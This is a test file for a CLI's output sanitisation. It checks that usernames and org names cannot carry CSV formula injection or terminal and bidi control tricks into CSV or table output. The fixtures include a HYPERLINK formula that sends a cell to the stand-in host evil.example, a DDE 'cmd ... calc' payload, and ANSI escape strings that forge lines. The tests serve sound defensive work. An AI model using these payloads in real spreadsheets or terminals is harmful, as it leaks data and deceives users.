/**
 * Org-controlled text (usernames, profile and org names) in the CLI's outputs: CSV cells that a
 * spreadsheet would run as formulas are neutralised; the table strips terminal controls and bidi
 * overrides; JSON and SARIF keep the text exact.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { DEFAULT_SNAPSHOT, run } from '../analyticsHealth';
import { terminalSafe } from '../tableFormat';

const fixedNow = () => new Date('2026-11-23T08:00:00Z');
const INTEGRATION_PROFILE = '00e5g000001IuClAAG';

function cli(...argv: string[]) {
  let stdout = '';
  let stderr = '';
  const code = run(argv, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) }, fixedNow);
  return { code, stdout, stderr };
}

/**
 * The broken demo org with the custom integration user's username (sync.runner@…), the Integration
 * User's profile name or the org name replaced.
 */
function snapshotWith(names: { username?: string; profileName?: string; orgName?: string }) {
  const facts = JSON.parse(readFileSync(DEFAULT_SNAPSHOT, 'utf8'));
  if (names.username !== undefined) facts.users[2].username = names.username;
  if (names.profileName !== undefined) {
    facts.profiles.find((p: { id: string }) => p.id === INTEGRATION_PROFILE).name =
      names.profileName;
  }
  if (names.orgName !== undefined) facts.org.name = names.orgName;
  const file = path.join(mkdtempSync(path.join(tmpdir(), 'ah-safety-')), 'snapshot.json');
  writeFileSync(file, JSON.stringify(facts));
  return file;
}

/** RFC 4180: rows of cells, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV injection (OWASP): formula-like cells are neutralised', () => {
  it.each(FORMULA_STARTS.map((c) => [JSON.stringify(c), c]))(
    'a username and a profile name starting with %s get a leading quote, the rest exact',
    (_label, c) => {
      const username = `${c}HYPERLINK("https://evil.example/?"&A1,"click"),x@y.com`;
      const profileName = `${c}cmd|' /C calc'!A0`;
      const { code, stdout } = cli(
        'check',
        '--facts',
        snapshotWith({ username, profileName }),
        '--format',
        'csv',
      );
      expect(code).toBe(1);
      const rows = parseCsv(stdout);
      expect(rows[0]).toEqual([
        'ruleId',
        'status',
        'severity',
        'subjectType',
        'subjectId',
        'subject',
        'message',
        'remediation',
        'reason',
      ]);
      const subjects = rows.slice(1).map((r) => r[5]);
      expect(subjects).toContain(`'${username}`);
      expect(subjects).toContain(`'${profileName}`);
      // A message that starts with the profile name is neutralised too.
      expect(rows.some((r) => r[6].startsWith(`'${profileName}`))).toBe(true);
      // The raw cell is quoted, the quote inside it doubled.
      expect(stdout).toContain(`"'${username.replace(/"/g, '""')}"`);
      for (const row of rows) {
        expect(row).toHaveLength(9);
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    },
  );

  it('leaves ordinary cells as they were', () => {
    const rows = parseCsv(cli('check', '--format', 'csv').stdout);
    expect(rows.find((r) => r[0] === 'AH001')?.[5]).toBe('Northwind Outfitters UAT');
    // A message the catalog itself starts with a quote is not quoted again.
    const quoted = rows.flat().filter((cell) => cell.startsWith("'"));
    expect(quoted.length).toBeGreaterThan(0);
    for (const cell of quoted) expect(cell).toMatch(/^'Enforce login IP ranges/);
  });
});

describe('terminal safety of the table format', () => {
  const forged = '\n  [CRITICAL] AH999  everything is fine';
  const username = `eve\u001b[2K\u001b[1A\r${forged}\u0007\u0008\u009b31m\u202Emoc.live\u202C\u2066x\u2069\u200E\u200F\u061C@x.com`;

  it('strips C0/C1 controls and bidi overrides from org text', () => {
    expect(terminalSafe('a\u001b]0;title\u0007b')).toBe('a]0;titleb');
    expect(terminalSafe('a\nb\tc\rd\u2028e')).toBe('a b c d e');
    expect(terminalSafe('\u202Aa\u202Bb\u202Cc\u202Dd\u202Ee\u2066f\u2067g\u2068h\u2069')).toBe(
      'abcdefgh',
    );
    expect(terminalSafe('\u007f\u0080\u009fok\u200e\u200f')).toBe('ok');
    expect(terminalSafe('Zoë — 東京 ✓')).toBe('Zoë — 東京 ✓');
  });

  it('a username or org name cannot forge a line, move the cursor or reorder text', () => {
    const file = snapshotWith({
      username,
      profileName: `Clone\u001b[31m\u202E`,
      orgName: `Acme\r\nScore 100/100\u001b[0m`,
    });
    const { code, stdout } = cli('check', '--facts', file);
    expect(code).toBe(1);
    // Only the table's own line breaks remain; no other control or bidi character.
    expect(stdout).not.toMatch(
      // eslint-disable-next-line no-control-regex -- the test looks for exactly these characters
      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/,
    );
    const lines = stdout.split('\n');
    expect(lines.some((l) => l.startsWith('  [CRITICAL] AH999'))).toBe(false);
    expect(lines.some((l) => l.startsWith('Score 100/100'))).toBe(false);
    expect(lines[0]).toBe('Analytics Health — Acme  Score 100/100[0m (00D5g000004XyZaEAK)');
    expect(stdout).toContain('eve[2K[1A');
  });

  it('JSON and SARIF keep the same username exact', () => {
    const file = snapshotWith({ username });
    const json = JSON.parse(cli('check', '--facts', file, '--format', 'json').stdout);
    expect(
      json.findings.some((f: { subject: { label: string } }) => f.subject.label === username),
    ).toBe(true);
    const sarif = JSON.parse(cli('check', '--facts', file, '--format', 'sarif').stdout);
    expect(JSON.stringify(sarif)).toContain(JSON.stringify(username).slice(1, -1));
  });
});
